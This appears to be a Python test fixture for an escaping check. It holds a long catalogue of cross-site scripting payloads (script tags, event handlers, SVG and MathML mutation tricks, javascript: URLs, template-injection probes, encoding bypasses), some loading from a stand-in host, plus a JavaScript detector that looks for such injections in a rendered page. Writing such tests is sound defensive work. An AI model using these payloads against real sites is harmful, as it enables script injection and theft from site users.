"""Text that tries to be more than text, by what it tries; all written for these tests.

Each kind comes with the markup in which it would come alive on a page that escapes nothing, `%s`
being the text. What only other readers than a browser would run (converters of Markdown, of other
template languages, of other alphabets) stands under `ELSEWHERE`.
"""

ALIVE_IN: dict[str, tuple[str, ...]] = {
    "<p>%s</p>": (
        "<script>__xss=1</script>",
        "<ScRiPt>__xss=1</sCrIpT>",
        "<script/x>__xss=1</script/x>",
        "<<script>__xss=1//<</script>",
        "<script src=//evil.invalid/a.js></script>",
        "<script src=data:,__xss=1></script>",
        "<img src=x onerror=__xss=1>",
        "<img/src='x'onerror=__xss=1>",
        '<IMG SRC=x OnErRoR="__xss=1">',
        "<image src=x onerror=__xss=1>",
        "<img src=x onerror=&#95;&#95;xss=1>",
        "<img src=//evil.invalid/a.png>",
        "<iframe src=javascript:parent.__xss=1>",
        "<iframe srcdoc=<script>parent.__xss=1</script>>",
        "<object data=javascript:__xss=1></object>",
        "<embed src=javascript:__xss=1>",
        "<video><source onerror=__xss=1></video>",
        "<audio src=x onerror=__xss=1>",
        "<input autofocus onfocus=__xss=1>",
        "<textarea autofocus onfocus=__xss=1>",
        "<details open ontoggle=__xss=1>",
        "<marquee onstart=__xss=1>",
        "<x onclick=__xss=1 tabindex=1>x",
        "<a href=javascript:__xss=1>x</a>",
        '<a href="java&#10;script:__xss=1">x</a>',
        '<a href=" &#1; JaVaScRiPt:__xss=1">x</a>',
        "<a href=data:text/html,x>x</a>",
        "<form action=javascript:__xss=1><button>x",
        "<button formaction=javascript:__xss=1>x",
        "<base href=//evil.invalid/>",
        "<link rel=stylesheet href=//evil.invalid/>",
        "<style>@import'//evil.invalid';</style>",
        "<p style=background:url(//evil.invalid)>",
        "<svg onload=__xss=1>",
        "<svg/onload=__xss=1//",
        "<svg><script>__xss=1</script></svg>",
        "<svg><script href=data:,__xss=1 />",
        "<svg><animate onbegin=__xss=1>",
        "<svg><a xlink:href=javascript:__xss=1>x",
        "<svg><set attributeName=onload to=__xss=1>",
        "<svg><foreignObject><img src=x onerror=__xss=1>",
        "<svg></p><style><img src=x onerror=__xss=1>",
        "<math href=javascript:__xss=1>x",
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss=1>",
        "<noscript><p title=</noscript><img src=x onerror=__xss=1>>",
        "<p><template shadowrootmode=open><img src=x onerror=__xss=1>",
        "<!--><img src=x onerror=__xss=1>-->",
        "<![CDATA[><img src=x onerror=__xss=1>]]>",
        "<p hx-get=//evil.invalid/ hx-trigger=load>",
        "<p hx-on:load=__xss=1>",
        "{{ 6390|add:1 }}",
        "{% if 1 %}{{ 6390|add:1 }}{% endif %}",
    ),
    '<p title="%s">': ('" onfocus=__xss=1 autofocus x="', '"><script>__xss=1</script>'),
    "<p title='%s'>": ("' onfocus=__xss=1 autofocus x='", "'><img src=x onerror=__xss=1>"),
    "<p title=%s>": ("x onfocus=__xss=1 autofocus", "`onmouseover=__xss=1 onfocus=__xss=1"),
    '<a href="%s">x</a>': ("javascript:__xss=1", "JaVa&#9;script:__xss=1", "vbscript:__xss=1"),
    '<script>x = "%s"</script>': ('";__xss=1;//', "</script><script>__xss=1</script>"),
    "<script>x = '%s'</script>": ("';__xss=1;//",),
    "<script>x = `%s`</script>": ("${__xss=1}",),
    "<textarea>%s</textarea>": ("</textarea><script>__xss=1</script>",),
    "<title>%s</title>": ("</title><script>__xss=1</script>",),
    "<style>%s</style>": ("</style><script>__xss=1</script>",),
    "<!-- %s -->": ("--><script>__xss=1</script>",),
}
ELSEWHERE = (
    "[x](javascript:__xss=1)",
    '![x](x"onerror="__xss=1)',
    "<javascript:__xss=1>",
    "#{6390+1} <%= 6390+1 %> ${6390+1}",
    "{{constructor.constructor('__xss=1')()}}",
    "＜script＞__xss=1＜/script＞",
    "+ADw-script+AD4-__xss=1+ADw-/script+AD4-",
    "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
    "%3Cscript%3E__xss=1%3C/script%3E",
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "\u2028<script>__xss=1</script>\u2029",
    "\u202e>tpircs/<1=ssx__>tpircs<",
)
PAYLOADS = (*(text for texts in ALIVE_IN.values() for text in texts), *ELSEWHERE)
EVALUATED = "6391"
# What a page of ours never has: whatever a script, a style, a frame or a link would come in by.
TRACES = """
() => {
  const found = [];
  const names = /^on|^hx-on|^(srcdoc|style|formaction|background)$/;
  const links = /^(href|src|action|data|to|from|values|xlink:href|hx-[a-z]+)$/;
  const scheme = /^[\\u0000-\\u0020]*(j\\s*a\\s*v\\s*a\\s*s\\s*c\\s*r\\s*i\\s*p\\s*t|vbscript):/i;
  const tags = /^(iframe|frame|object|embed|base|marquee|math|foreignobject|set|animate|x|image)$/i;
  const elsewhere = (value) =>
    /^\\s*(https?:)?\\/\\//i.test(value) && !value.startsWith(location.origin);
  const wrong = (one) =>
    tags.test(one.localName) ||
    (one.localName === "script" && !one.src && one.type !== "application/json") ||
    (one.localName === "style") ||
    [...one.attributes].some(({name, value}) =>
      names.test(name) ||
      (links.test(name) && (scheme.test(value) || elsewhere(value))) ||
      (/^(src|href|data)$/.test(name) && one.localName !== "link" && /^\\s*data:/i.test(value)));
  const look = (root) => {
    for (const one of root.querySelectorAll("*")) {
      if (wrong(one)) found.push(one.outerHTML.slice(0, 160));
      if (one.shadowRoot) look(one.shadowRoot);
    }
  };
  look(document);
  if (window.__xss) found.push("a script ran");
  if (document.documentElement.textContent.includes("6391")) found.push("a template ran");
  return found.slice(0, 5);
}
"""
